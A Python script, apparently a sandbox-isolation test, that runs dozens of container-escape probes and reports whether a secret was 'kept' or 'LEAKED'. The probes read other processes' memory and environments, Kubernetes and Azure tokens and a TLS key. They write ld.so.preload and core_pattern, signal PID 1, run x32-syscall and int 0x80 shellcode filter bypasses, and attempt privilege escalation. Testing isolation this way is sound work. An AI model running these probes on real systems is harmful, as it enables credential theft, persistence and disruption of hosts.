#!/usr/bin/env python3
"""A hostile mapper: looks for a secret, and for a way to whatever has it, in every way it knows.

Prints a line for each way (or those that are named as arguments): its name, `kept` or `LEAKED`, and what became of it. In its environment: WHAT (the
secret), PORTS (of etcd, masters, storage, proxy), RUNNER (the runner's address).
"""

import ctypes
import glob
import os
import platform
import re
import signal
import socket
import stat
import struct
import subprocess
import sys
import tempfile

WHAT = os.environ["WHAT"][::-1]
PORTS = os.environ["PORTS"].split(",")
RUNNER = os.environ["RUNNER"]
LIBC = ctypes.CDLL(None, use_errno=True)
IS_X86 = platform.machine() == "x86_64"
WAYS = []


def way(function):
    WAYS.append(function)
    return function


def found(data):
    """The evidence, if the secret is in it."""
    text = data if isinstance(data, bytes) else str(data).encode()
    return "the secret" if WHAT.encode() in text else None


def read(path, most=4_000_000):
    with open(path, "rb") as file:
        return file.read(most)


def first(paths, attempt):
    """What the first of them gives; the last error when none does."""
    error = None
    for path in paths:
        try:
            result = attempt(path)
            if result:
                return "%s in %s" % (result, path)
        except OSError as failure:
            error = failure
    if error is not None:
        raise error
    return None


def call(number, *arguments):
    result = LIBC.syscall(number, *arguments)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def others():
    """Processes that are not this script's own."""
    return [pid for pid in os.listdir("/proc") if pid.isdigit() and session_of(pid) != os.getsid(0)]


def session_of(pid):
    try:
        return int(read("/proc/%s/stat" % pid).rsplit(b")", 1)[1].split()[3])
    except OSError:
        return None


def dial(address, family=socket.AF_INET, say=b"GET / HTTP/1.0\r\n\r\n"):
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(3)
        connection.connect(address)
        connection.sendall(say)
        return "connected to %r" % (address,)


# --- what it was given


@way
def own_environment():
    return found(sorted(os.environ.items()))


@way
def own_memory():
    """What the process that became this one has left behind."""
    for line in read("/proc/self/maps").decode().splitlines():
        span, rights = line.split()[:2]
        if "r" not in rights or "[v" in line:
            continue
        start, end = (int(part, 16) for part in span.split("-"))
        with open("/proc/self/mem", "rb", 0) as memory:
            memory.seek(start)
            # A pattern that does not match its own text, which is there, too.
            if re.search(rb"AccountKe[y]=\w", memory.read(min(end - start, 8_000_000))):
                return "a setting of the worker's"
    return None


@way
def inherited_files():
    return "; ".join(INHERITED) or None


@way
def standard_streams_reopened():
    return first(["/proc/self/fd/%d" % i for i in range(3)], lambda path: found(read(path, 100)))


# --- other processes


@way
def environment_of_the_first_process():
    return found(read("/proc/1/environ")) or "it can be read"


@way
def environment_of_every_process():
    return first(["/proc/%s/environ" % pid for pid in others()], lambda path: len(read(path)))


@way
def command_line_of_every_process():
    return first(["/proc/%s/cmdline" % pid for pid in others()], lambda path: found(read(path)))


@way
def worker_among_the_processes():
    names = [read("/proc/%s/comm" % pid).decode().strip() for pid in others()]
    return "node is there" if any(name.startswith(("node", "tini", "MainThread")) for name in names) else None


@way
def open_files_of_every_process():
    return first(
        [path for pid in others() for path in glob.glob("/proc/%s/fd/*" % pid)] or ["/proc/1/fd"],
        lambda path: os.listdir(path) if os.path.isdir(path) else os.readlink(path),
    )


@way
def file_systems_of_every_process():
    return first(["/proc/%s/root" % pid for pid in others()], lambda path: os.listdir(path))


@way
def working_folder_of_every_process():
    return first(["/proc/%s/cwd" % pid for pid in others()], lambda path: os.listdir(path))


@way
def memory_of_every_process():
    return first(["/proc/%s/mem" % pid for pid in others()], lambda path: bool(open(path, "rb")))


@way
def memory_map_of_every_process():
    return first(["/proc/%s/maps" % pid for pid in others()], lambda path: len(read(path)))


@way
def trace_the_first_process():
    attach = 16
    LIBC.ptrace.argtypes = [ctypes.c_long] * 4
    if LIBC.ptrace(attach, 1, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    return "attached"


@way
def copy_memory_of_the_first_process():
    buffer = ctypes.create_string_buffer(16)
    local = struct.pack("@PN", ctypes.addressof(buffer), 16)
    remote = struct.pack("@PN", 0x400000, 16)
    call(310 if IS_X86 else 270, 1, local, 1, remote, 1, 0)
    return "copied"


@way
def take_a_file_of_the_first_process():
    return "taken: %d" % call(438, os.pidfd_open(1), 3, 0)


@way
def limits_of_every_process():
    """Without files, or time, it could do nothing more."""
    import resource

    return first(others(), lambda pid: resource.prlimit(int(pid), resource.RLIMIT_NOFILE, (3, 3)))


@way
def priority_of_every_process():
    return first(others(), lambda pid: os.setpriority(os.PRIO_PROCESS, int(pid), 19) or "changed")


@way
def processors_of_every_process():
    return first(others(), lambda pid: os.sched_setaffinity(int(pid), {0}) or "changed")


@way
def memory_for_all():
    create = 0o1600
    return "made: %d" % call(29 if IS_X86 else 194, 4711, 4096, create)


@way
def signal_the_first_process():
    os.kill(1, signal.SIGTERM)
    return "sent"


@way
def signal_every_process():
    return first(others(), lambda pid: os.kill(int(pid), 0) or "sent")


# --- files


@way
def files_with_the_secret():
    """Everywhere but in what every Debian has."""
    for top in os.listdir("/"):
        if top in ("proc", "sys", "usr", "lib", "bin", "sbin", "lib64", "dev"):
            continue
        for folder, _, names in os.walk("/" + top):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if stat.S_ISREG(os.lstat(path).st_mode) and found(read(path)):
                        return path
                except OSError:
                    pass
    return None


@way
def service_account_token():
    return first(
        ["/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets/kubernetes.io/serviceaccount/token"],
        lambda path: read(path),
    )


@way
def federated_token():
    return first(glob.glob("/var/run/secrets/azure/tokens/*") or ["/var/run/secrets/azure/tokens/azure-identity-token"], read)


@way
def private_key_of_the_worker():
    return read("/etc/mr/tls/tls.key")


@way
def scratch_folder_of_the_worker():
    return "; ".join(os.listdir("/scratch")) or None


@way
def layouts_of_others():
    return "; ".join(os.listdir("/layouts")) or "listed"


@way
def poison_a_layout():
    with open("/layouts/poison", "w") as file:
        file.write("x")
    return "written"


@way
def folders_of_other_attempts():
    return "; ".join(os.listdir("/cell"))


@way
def folder_beside_mine():
    os.mkdir(os.path.join(os.getcwd(), "../../neighbour"))
    return "made"


@way
def program_of_the_runner():
    with open("/app/internal/runner/__main__.py", "a") as file:
        file.write("#")
    return "written"


@way
def programs_of_the_system():
    with open("/usr/bin/poison", "w") as file:
        file.write("#")
    return "written"


@way
def settings_of_the_system():
    with open("/etc/ld.so.preload", "w") as file:
        file.write("/cell/x.so")
    return "written"


@way
def common_temporary_folder():
    with tempfile.TemporaryFile(dir="/tmp"):
        return "written"


@way
def health_files_of_the_worker():
    with open("/run/mr/alive", "w"):
        return "written"


@way
def make_a_device():
    path = os.path.join(os.getcwd(), "mem")
    os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 1))
    return "made"


@way
def memory_of_the_machine():
    return first(["/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/kmsg"], lambda path: len(read(path, 100)))


@way
def disks_of_the_machine():
    return first(glob.glob("/dev/[svx]d*") + glob.glob("/dev/nvme*") or ["/dev/sda"], lambda path: len(read(path, 100)))


@way
def control_groups():
    with open("/sys/fs/cgroup/cgroup.procs", "w") as file:
        file.write("1")
    return "written"


@way
def settings_of_the_kernel():
    with open("/proc/sys/kernel/core_pattern", "w") as file:
        file.write("|/cell/x")
    return "written"


# --- the network


@way
def metadata_of_the_node():
    return dial(("169.254.169.254", 80))


@way
def wire_server_of_azure():
    return dial(("168.63.129.16", 80))


@way
def etcd():
    return dial(("127.0.0.1", int(PORTS[0])))


@way
def masters():
    return first(PORTS[1:4], lambda port: dial(("127.0.0.1", int(port))))


@way
def storage_account():
    return dial(("127.0.0.1", int(PORTS[4])))


@way
def proxy():
    return dial(("127.0.0.1", int(PORTS[5])))


@way
def look_up_a_name():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packet:
        packet.sendto(b"\0" * 12, ("127.0.0.53", 53))
    return "sent"


@way
def ipv6():
    return dial(("::1", int(PORTS[5])), socket.AF_INET6)


@way
def packets_of_my_own():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3):
        return "opened"


@way
def routes_of_the_kernel():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0):
        return "opened"


@way
def virtual_machine_socket():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM):
        return "opened"


@way
def io_uring():
    return "made: %d" % call(425, 4, ctypes.create_string_buffer(120))


@way
def sockets_of_another_architecture():
    """The x32 numbers of x86_64; elsewhere a number that no filter knows."""
    family, kind = socket.AF_INET, socket.SOCK_STREAM
    return "made: %d" % (call(0x40000000 + 41, family, kind, 0) if IS_X86 else call(198 + (1 << 30), family, kind, 0))


@way
def sockets_of_32_bit_programs():
    if not IS_X86:
        raise OSError(0, "there are none")
    # mov eax, 359 (socket); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; ret; rbx kept
    code = bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3")
    import mmap

    area = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return "made: %d" % result


@way
def runner_as_its_worker():
    """A hello with a secret of our own."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(3)
        connection.connect("\0" + RUNNER[1:])
        connection.sendall(b"\0" * 48 + b"h")
        return connection.recv(1000) or None


@way
def runner_by_guessing():
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(3)
        connection.connect("\0" + RUNNER[1:])
        connection.sendall(b"\0" * 48 + b"c" + b'{"op": "remove", "attempt": "x"}\n')
        return connection.recv(1000) or None


# --- more rights


@way
def namespace_of_my_own():
    new_user = 0x10000000
    return "made: %d" % call(272 if IS_X86 else 97, new_user)


@way
def namespace_of_a_child():
    new_user = 0x10000000
    pid = LIBC.syscall(56 if IS_X86 else 220, new_user | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    if pid < 0:
        raise OSError(ctypes.get_errno(), "clone")
    os.waitpid(pid, 0)
    return "made"


@way
def namespace_of_the_first_process():
    with open("/proc/1/ns/mnt") as file:
        return "entered: %d" % call(308 if IS_X86 else 268, file.fileno(), 0)


@way
def another_root():
    os.chroot(os.getcwd())
    return "changed"


@way
def mount():
    source = os.getcwd().encode()
    return "mounted: %d" % call(165 if IS_X86 else 40, b"proc", source, b"proc", 0, None)


@way
def user_of_the_worker():
    os.setuid(10001)
    return "become"


@way
def root():
    os.setuid(0)
    return "become"


@way
def programs_with_more_rights():
    """Set-user-ID programs: what they run as."""
    copy = os.path.join(os.getcwd(), "id")
    subprocess.run(["cp", "/usr/bin/id", copy], check=True)
    os.chmod(copy, 0o6755)
    said = subprocess.run([copy, "-u"], capture_output=True, text=True).stdout.strip()
    for program in ("/bin/su", "/usr/bin/newgrp", "/bin/mount"):
        if os.path.exists(program):
            status = subprocess.run([program, "--version"], capture_output=True).returncode
    return None if said in ("", str(os.getuid())) else said


@way
def capabilities():
    text = read("/proc/self/status").decode()
    masks = [line.split()[1] for line in text.splitlines() if line.startswith(("CapPrm", "CapEff", "CapAmb"))]
    return None if all(int(mask, 16) == 0 for mask in masks) else ", ".join(masks)


@way
def programs_in_the_kernel():
    return "loaded: %d" % call(321 if IS_X86 else 280, 0, ctypes.create_string_buffer(120), 120)


@way
def watch_the_kernel():
    return "opened: %d" % call(298 if IS_X86 else 241, ctypes.create_string_buffer(120), 0, -1, -1, 0)


@way
def keys_of_the_kernel():
    get_keyring, session = 0, -3
    return "read: %d" % call(250 if IS_X86 else 219, get_keyring, session, 1, 0, 0)


# --- the run


def tried(attempt):
    """In a process of its own: some end it."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(reader)
        signal.alarm(20)
        try:
            evidence = attempt()
            line = "kept\tnothing found" if not evidence else "LEAKED\t%s" % str(evidence)[:200]
        except BaseException as error:
            line = "kept\t%s" % (" ".join(str(error).split()) or type(error).__name__)
        os.write(writer, line.encode())
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader, "rb") as pipe:
        line = pipe.read().decode()
    _, status = os.waitpid(pid, 0)
    return line or "kept\tended by signal %d" % os.WTERMSIG(status)


if __name__ == "__main__":
    INHERITED = ["/proc/self/fd/" + name for name in os.listdir("/proc/self/fd") if int(name) > 2]
    INHERITED = [os.readlink(path) for path in INHERITED if os.path.exists(path)]
    if "--list" in sys.argv:
        print("\n".join(function.__name__ for function in WAYS))
        sys.exit()
    for _ in sys.stdin:
        pass
    for function in WAYS:
        if len(sys.argv) > 1 and function.__name__ not in sys.argv[1:]:
            continue
        print("%s\t%s" % (function.__name__, tried(function)), flush=True)
